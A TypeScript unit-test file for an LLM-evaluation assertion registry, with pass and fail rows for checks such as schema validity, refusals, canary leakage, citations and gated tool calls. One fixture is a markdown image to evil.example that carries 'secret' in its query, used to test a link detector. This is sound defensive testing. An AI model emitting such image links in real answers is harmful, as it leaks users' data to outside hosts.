/**
 * Every assertion type of the registry, each with an answer that passes, one that fails, and
 * the reason it gives (issue 8: "unit tests for every assertion type (pass, fail, the message)").
 * The last test fails when a type is added to the registry without rows here.
 */
import { describe, expect, it } from "vitest";
import type { Output } from "../../schema/output.ts";
import { ASSERTION_DEFINITIONS, ASSERTION_TYPES, AssertionSchema, describeAssertion, evaluateAssertion, type AssertionInput } from "./registry.ts";
import { ctxFor } from "./fixtures.ts";
import type { AssertionContext } from "./define.ts";
import { ToolSchema } from "../../schema/tools.ts";

const JSON_OUT: Output = {
  kind: "json_schema",
  name: "answer",
  schema: {
    type: "object",
    properties: { days: { type: "number" }, tags: { type: "array", items: { type: "string" } } },
    required: ["days"],
    additionalProperties: false,
  },
  strict: true,
  examples: [],
};
const SECTIONS_OUT: Output = {
  kind: "sections",
  sections: [
    { heading: "Summary", required: true, description: "" },
    { heading: "Notes", required: false, description: "" },
  ],
  examples: [],
};

type Row = [name: string, assertion: AssertionInput, ctx: AssertionContext, pass: boolean, reason: string | RegExp];

/** Tool assertions (tools.ts): a contract with two tools, one gated, and the calls in the result. */
const TOOLS = ToolSchema.array().parse([
  { name: "lookup_order", parameters: { type: "object", properties: { id: { type: "string" } }, required: ["id"] } },
  { name: "issue_refund", requiresConfirmation: true },
]);
function toolCtx(calls: { name: string; arguments: string }[], confirmed: string[] = []): AssertionContext {
  const base = ctxFor("", { result: { toolCalls: calls.map((c, i) => ({ id: `call_${i}`, ...c })) } });
  return { ...base, contract: { ...base.contract, tools: TOOLS }, testCase: { ...base.testCase, tools: { results: {}, confirmed } } };
}
const TOOL_ROWS: Row[] = [
  [
    "tool_called: called",
    { type: "tool_called", tool: "lookup_order" },
    toolCtx([{ name: "lookup_order", arguments: '{"id":"A"}' }]),
    true,
    "calls lookup_order once",
  ],
  [
    "tool_called: another one",
    { type: "tool_called", tool: "lookup_order" },
    toolCtx([{ name: "issue_refund", arguments: "{}" }]),
    false,
    "calls issue_refund, not lookup_order",
  ],
  ["tool_not_called: not called", { type: "tool_not_called", tool: "issue_refund" }, toolCtx([]), true, "does not call issue_refund"],
  [
    "tool_not_called: called",
    { type: "tool_not_called", tool: "issue_refund" },
    toolCtx([{ name: "issue_refund", arguments: "{}" }]),
    false,
    "calls issue_refund once",
  ],
  ["tool_arguments_valid: valid", { type: "tool_arguments_valid" }, toolCtx([{ name: "lookup_order", arguments: '{"id":"A"}' }]), true, "all 1 call valid"],
  [
    "tool_arguments_valid: a missing required argument, with its path",
    { type: "tool_arguments_valid" },
    toolCtx([{ name: "lookup_order", arguments: "{}" }]),
    false,
    "lookup_order: $.id is required but missing",
  ],
  [
    "tool_confirmation_respected: confirmed first",
    { type: "tool_confirmation_respected" },
    toolCtx([{ name: "issue_refund", arguments: "{}" }], ["issue_refund"]),
    true,
    "no gated tool called without its confirmation",
  ],
  [
    "tool_confirmation_respected: no confirmation",
    { type: "tool_confirmation_respected" },
    toolCtx([{ name: "issue_refund", arguments: "{}" }]),
    false,
    "calls issue_refund, which needs a person's confirmation first, and the case records none",
  ],
];

const ROWS: Row[] = [
  ["schema_valid: JSON that fits", { type: "schema_valid" }, ctxFor('{"days": 30}', { output: JSON_OUT }), true, "matches the output schema"],
  ["schema_valid: a wrong type, with its path", { type: "schema_valid" }, ctxFor('{"days": "30"}', { output: JSON_OUT }), false, /^\$\.days: /],
  ["schema_valid: a text contract has no schema", { type: "schema_valid" }, ctxFor("hi"), false, /is text, not a JSON schema/],
  ["sections_present: the required ones", { type: "sections_present" }, ctxFor("## Summary\nok", { output: SECTIONS_OUT }), true, "has the section"],
  ["sections_present: one missing", { type: "sections_present" }, ctxFor("## Notes\nok", { output: SECTIONS_OUT }), false, 'missing "## Summary"'],
  [
    "sections_present: listed headings",
    { type: "sections_present", headings: ["Risks", "Summary"] },
    ctxFor("## Summary\n## Risks:"),
    true,
    "has all 2 sections",
  ],
  ["not_cut_off: stopped", { type: "not_cut_off" }, ctxFor("done"), true, "complete (finish_reason stop)"],
  ["not_cut_off: length", { type: "not_cut_off" }, ctxFor("do", { result: { finishReason: "length" } }), false, "cut off at max_tokens (finish_reason length)"],
  [
    "json_path_equals: deep equal, any key order",
    { type: "json_path_equals", path: "$.a", value: { y: 1, x: [2] } },
    ctxFor('{"a": {"x": [2], "y": 1}}'),
    true,
    /^\$\.a is /,
  ],
  ["json_path_equals: a different value", { type: "json_path_equals", path: "$.days", value: 30 }, ctxFor('{"days": 14}'), false, "$.days is 14, not 30"],
  ["json_path_equals: no such key", { type: "json_path_equals", path: "$.x.y", value: 1 }, ctxFor('{"x": {}}'), false, '$.x has no key "y"'],
  ["json_path_equals: not JSON", { type: "json_path_equals", path: "$", value: 1 }, ctxFor("one"), false, "the answer is not JSON"],
  [
    "json_path_matches: a string",
    { type: "json_path_matches", path: "$['first name']", pattern: "^A", flags: "" },
    ctxFor('{"first name": "Ada"}'),
    true,
    /matches/,
  ],
  [
    "json_path_matches: no match",
    { type: "json_path_matches", path: "$.tags[-1]", pattern: "^z", flags: "" },
    ctxFor('{"tags": ["a", "b"]}'),
    false,
    /"b" does not match/,
  ],
  ["json_path_matches: an object is not text", { type: "json_path_matches", path: "$", pattern: ".", flags: "" }, ctxFor("{}"), false, /not text/],
  ["json_path_in_set: one of them", { type: "json_path_in_set", path: "$.q", values: ["billing", "tech"] }, ctxFor('{"q": "tech"}'), true, '$.q is "tech"'],
  ["json_path_in_set: none of them", { type: "json_path_in_set", path: "$.q[0]", values: [1] }, ctxFor('{"q": [2]}'), false, /not one of the 1 allowed/],
  ["contains: any case by default", { type: "contains", value: "REFUND" }, ctxFor("Your refund is on its way"), true, 'contains "REFUND"'],
  ["contains: case-sensitive", { type: "contains", value: "REFUND", caseSensitive: true }, ctxFor("refund"), false, 'does not contain "REFUND"'],
  ["not_contains: absent", { type: "not_contains", value: "guarantee" }, ctxFor("We will try."), true, 'does not contain "guarantee"'],
  ["not_contains: present, with where", { type: "not_contains", value: "guarantee" }, ctxFor("We Guarantee it"), false, 'contains "guarantee" at character 3'],
  ["contains_any: one found", { type: "contains_any", values: ["credit", "refund"] }, ctxFor("store credit"), true, 'contains "credit"'],
  ["contains_any: none found", { type: "contains_any", values: ["a1", "b2"] }, ctxFor("nothing"), false, 'contains none of "a1", "b2"'],
  ["contains_all: all found", { type: "contains_all", values: ["gift", "credit"] }, ctxFor("Gift: store credit"), true, "contains all 2"],
  ["contains_all: one missing, partial score", { type: "contains_all", values: ["gift", "cash"] }, ctxFor("gift"), false, 'misses "cash"'],
  ["regex: matches", { type: "regex", pattern: "\\d+ days", flags: "i" }, ctxFor("within 30 DAYS"), true, 'matches /\\d+ days/i with "30 DAYS"'],
  ["regex: no match", { type: "regex", pattern: "^No", flags: "" }, ctxFor("Yes"), false, "does not match /^No/"],
  ["regex: an invalid pattern says so", { type: "regex", pattern: "(", flags: "" }, ctxFor("x"), false, /is not a valid regular expression/],
  ["max_length: characters are code points", { type: "max_length", max: 3 }, ctxFor("a😀b"), true, "3 characters, within 3"],
  ["max_length: over in characters", { type: "max_length", max: 2, unit: "chars" }, ctxFor("abc"), false, "3 characters, over the limit of 2"],
  ["max_length: tokens", { type: "max_length", max: 2, unit: "tokens" }, ctxFor("one two three"), false, "3 tokens, over the limit of 2"],
  ["max_length: tokens not loaded", { type: "max_length", max: 2, unit: "tokens" }, ctxFor("x", { tokens: () => null }), false, /token tables are not loaded/],
  ["is_refusal: a refusal phrase", { type: "is_refusal" }, ctxFor("I'm sorry, but I can't help with that."), true, /refuses \(the refusal phrase/],
  [
    "is_refusal: the endpoint's refusal field",
    { type: "is_refusal" },
    ctxFor("", { result: { refusal: "no" } }),
    true,
    "refuses (the endpoint's refusal field)",
  ],
  ["is_refusal: an answer", { type: "is_refusal" }, ctxFor("Refunds take 30 days."), false, "does not refuse (no refusal phrase)"],
  ["not_refusal: an answer", { type: "not_refusal" }, ctxFor("Sure, here it is."), true, "does not refuse"],
  [
    "not_refusal: the contract's own refusal",
    { type: "not_refusal" },
    ctxFor("Sorry. I can only help with billing questions.", { policy: { refusalStyle: 'Say "I can only help with billing questions."' } }),
    false,
    /the contract's refusal "I can only help with billing questions\."/,
  ],
  ["says_idk: a common phrase", { type: "says_idk" }, ctxFor("I don’t know."), true, /says it does not know \(the phrase "i don't know"\)/],
  ["says_idk: an answer", { type: "says_idk" }, ctxFor("It is 30 days."), false, /answers instead/],
  ["not_idk: an answer", { type: "not_idk" }, ctxFor("It is 30 days."), true, "answers"],
  [
    "not_idk: the contract's unknown answer",
    { type: "not_idk" },
    ctxFor("(unclear in transcript)", { policy: { unknownAnswer: 'write "(unclear in transcript)" at that point' } }),
    false,
    /the contract's unknown answer "\(unclear in transcript\)"/,
  ],
  [
    "unknown_answer_verbatim: the exact words",
    { type: "unknown_answer_verbatim" },
    ctxFor("I don't know based on the articles.", { policy: { unknownAnswer: 'reply with exactly "I don\'t know based on the articles."' } }),
    true,
    /verbatim/,
  ],
  [
    "unknown_answer_verbatim: other words",
    { type: "unknown_answer_verbatim" },
    ctxFor("I'm not sure, sorry.", { policy: { unknownAnswer: 'reply with exactly "I don\'t know based on the articles."' } }),
    false,
    /but not in the contract's words/,
  ],
  [
    "unknown_answer_verbatim: not an unknown answer",
    { type: "unknown_answer_verbatim" },
    ctxFor("30 days.", { policy: { unknownAnswer: "I don't know." } }),
    true,
    /not an "I don't know" answer/,
  ],
  ["latency_below: fast", { type: "latency_below", ms: 500 }, ctxFor("x"), true, "took 120 ms, under 500 ms"],
  ["latency_below: slow", { type: "latency_below", ms: 100 }, ctxFor("x"), false, "took 120 ms, not under 100 ms"],
  ["cost_below: cheap", { type: "cost_below", usd: 0.01 }, ctxFor("x"), true, "cost $0.003, under $0.01"],
  ["cost_below: dear", { type: "cost_below", usd: 0.001 }, ctxFor("x"), false, "cost $0.003, not under $0.001"],
  ["cost_below: no prices", { type: "cost_below", usd: 1 }, ctxFor("x", { result: { cost: null } }), false, /the cost is unknown/],
  ["canary_not_leaked: absent", { type: "canary_not_leaked" }, ctxFor("Hello", { canary: "CSCANARYABCDEF0123456789" }), true, "the canary does not appear"],
  [
    "canary_not_leaked: verbatim",
    { type: "canary_not_leaked" },
    ctxFor("marker cscanaryabcdef0123456789", { canary: "CSCANARYABCDEF0123456789" }),
    false,
    /\(verbatim\)/,
  ],
  [
    "canary_not_leaked: spelled out",
    { type: "canary_not_leaked" },
    ctxFor("C S C A N A R Y A B C D E F 0 1 2 3 4 5 6 7 8 9", { canary: "CSCANARYABCDEF0123456789" }),
    false,
    /with separators/,
  ],
  ["canary_not_leaked: no canary placed", { type: "canary_not_leaked" }, ctxFor("x"), false, /no canary was placed/],
  ["no_external_links: none", { type: "no_external_links" }, ctxFor("See the help centre."), true, "no link or image to an outside host"],
  [
    "no_external_links: an allowed host",
    { type: "no_external_links", allowedHosts: ["acme.example"] },
    ctxFor("[Help](https://help.acme.example/x)"),
    true,
    /no link/,
  ],
  [
    "no_external_links: an image carrying data out",
    { type: "no_external_links" },
    ctxFor("![x](https://evil.example/p?d=secret)"),
    false,
    /^an image to evil\.example/,
  ],
  [
    "citations_valid: ids in the packet, quote in its item",
    { type: "citations_valid" },
    ctxFor('Yes, "within 30 days" [kb-1] and fast [kb-2].'),
    true,
    "all 2 citations point at context items",
  ],
  ["citations_valid: an invented id", { type: "citations_valid" }, ctxFor("Yes [kb-9]."), false, "cites [kb-9], which is not in the context packet"],
  [
    "citations_valid: a quote not in its item",
    { type: "citations_valid" },
    ctxFor('"within 90 days" [kb-1]'),
    false,
    /quotes "within 90 days", which is not in \[kb-1\]/,
  ],
  [
    "citations_valid: JSON citations field",
    { type: "citations_valid" },
    ctxFor('{"citations": [{"id": "kb-2", "quote": "ship within 2 days"}]}'),
    true,
    /all 1 citation /,
  ],
  ["citations_present: cites", { type: "citations_present" }, ctxFor("Yes [kb-1]."), true, "cites 1 source"],
  ["citations_present: none", { type: "citations_present" }, ctxFor("Yes."), false, "cites no context item, but the policy requires citations"],
  ["citations_present: an unknown answer needs none", { type: "citations_present" }, ctxFor("I don't know."), true, /as an "I don't know" answer may/],
  ["rubric: without a grader", { type: "rubric", rubric: "Is polite" }, ctxFor("x"), false, /not graded: choose a grader/],
  [
    "min_confidence: sure enough",
    { type: "min_confidence", path: "$.days", min: 0.5 },
    ctxFor('{"days": 30}', {
      result: {
        request: { model: "m", messages: [], logprobs: true },
        logprobs: [
          { t: '{"days": ', lp: 0 },
          { t: "30}", lp: Math.log(0.9) },
        ],
      },
    }),
    true,
    "$.days: confidence 90%, at least 50%",
  ],
  [
    "min_confidence: the endpoint sent no logprobs",
    { type: "min_confidence", path: "$.days", min: 0.5 },
    ctxFor('{"days": 30}', { result: { request: { model: "m", messages: [], logprobs: true }, logprobs: null } }),
    false,
    "the endpoint returned no logprobs, so confidence cannot be judged",
  ],
  [
    "grounded_claims: cited with its figure",
    { type: "grounded_claims" },
    ctxFor("Refunds within 30 days [kb-1].", { policy: { groundedClaims: ["refund periods"] } }),
    true,
    /^all 1 grounded claim/,
  ],
  [
    "grounded_claims: uncited",
    { type: "grounded_claims" },
    ctxFor("Refunds within 30 days.", { policy: { groundedClaims: ["refund periods"] } }),
    false,
    /cites no context item$/,
  ],
  ...TOOL_ROWS,
];

describe("every assertion type: pass, fail and the reason", () => {
  it.each(ROWS)("%s", async (_name, input, ctx, pass, reason) => {
    const a = AssertionSchema.parse(input);
    const v = await evaluateAssertion(a, ctx);
    expect(v.pass).toBe(pass);
    if (typeof reason === "string") expect(v.reason).toBe(reason);
    else expect(v.reason).toMatch(reason);
    expect(v.score).toBe(pass ? 1 : v.score);
    expect(v.score).toBeGreaterThanOrEqual(0);
    expect(v.score).toBeLessThanOrEqual(1);
  });

  it("covers every type of the registry with a passing and a failing row", () => {
    const parsedTypes = ROWS.map(([, a, , pass]) => `${a.type}:${pass}`);
    const missing = ASSERTION_TYPES.flatMap((t) => [`${t}:true`, `${t}:false`]).filter((k) => !parsedTypes.includes(k) && k !== "rubric:true");
    expect(missing).toEqual([]); // rubric's pass is tested with a grader in rubric.test.ts
  });

  it("gives partial credit where it means something", async () => {
    const v = await evaluateAssertion(AssertionSchema.parse({ type: "contains_all", values: ["a1", "b2", "c3", "d4"] }), ctxFor("a1 b2 c3"));
    expect(v).toMatchObject({ pass: false, score: 0.75 });
  });
});

describe("the registry is the one source", () => {
  it("describes every type in a sentence for the review", () => {
    for (const d of ASSERTION_DEFINITIONS) {
      const sample = ROWS.find(([, a]) => a.type === d.type)!;
      const text = describeAssertion(AssertionSchema.parse(sample[1]));
      expect(text, d.type).toMatch(/^[A-Z].*\.$/);
    }
    expect(describeAssertion({ type: "contains", value: "refund", caseSensitive: true })).toBe('The answer contains "refund" (case-sensitive).');
    expect(describeAssertion({ type: "max_length", max: 50, unit: "tokens" })).toBe("The answer is at most 50 tokens long.");
  });

  it("has one schema per type, in the registry's order, and types are unique", () => {
    expect(AssertionSchema.options.map((o) => o.shape.type.value)).toEqual(ASSERTION_TYPES);
    expect(new Set(ASSERTION_TYPES).size).toBe(ASSERTION_TYPES.length);
  });

  it("reports bad params with their path and a sentence", () => {
    const r = AssertionSchema.safeParse({ type: "json_path_equals", path: "items[0]", value: 1 });
    expect(!r.success && r.error.issues[0]).toMatchObject({ path: ["path"], message: expect.stringMatching(/starts with \$/) });
    const bad = AssertionSchema.safeParse({ type: "contains", value: "x", casesensitive: true });
    expect(bad.success).toBe(false);
  });
});
